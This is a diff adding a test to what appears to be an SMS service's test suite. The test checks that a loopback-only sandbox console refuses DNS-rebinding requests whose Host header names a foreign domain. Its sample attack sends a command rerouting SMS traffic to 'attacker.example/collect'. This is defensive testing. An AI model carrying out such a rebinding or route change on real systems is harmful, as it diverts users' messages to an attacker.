@@ -223,6 +223,28 @@ describe('the sandbox front port', () => {
   }, 60_000);
 });
 
+describe('the sandbox console on loopback (no token)', () => {
+  it('answers only requests addressed to a loopback name: a page that rebinds its own name to 127.0.0.1 gets 403', async () => {
+    const sandbox = start({ SMSOPS_SANDBOX: '1', SMSOPS_SANDBOX_PORT: '0', DATABASE_PATH: join(dir, 'sandbox.db') });
+    const line = await sandbox.waitForLine(/"listening":"127\.0\.0\.1:\d+"/);
+    const port = Number(/"listening":"127\.0\.0\.1:(\d+)"/.exec(line)?.[1]);
+    const command = JSON.stringify({ text: '/sms route set default http://attacker.example/collect' });
+    const post = (host: string) =>
+      rawRequest(
+        port,
+        `POST /sandbox/api/command HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: ${command.length}\r\nConnection: close\r\n\r\n${command}`,
+      );
+    expect(await post('attacker.example')).toMatch(/^HTTP\/1\.1 403/);
+    expect(await post(`attacker.example:${port}`)).toMatch(/^HTTP\/1\.1 403/);
+    const state = (host: string) =>
+      rawRequest(port, `GET /sandbox/api/state HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
+    expect(await state('attacker.example')).toMatch(/^HTTP\/1\.1 403/);
+    for (const host of [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`]) {
+      expect(await state(host), host).toMatch(/^HTTP\/1\.1 200/);
+    }
+  }, 60_000);
+});
+
 /** One request written as given (a request target fetch() would never send), the raw answer back. */
 function rawRequest(port: number, request: string): Promise<string> {
   return new Promise((resolve, reject) => {
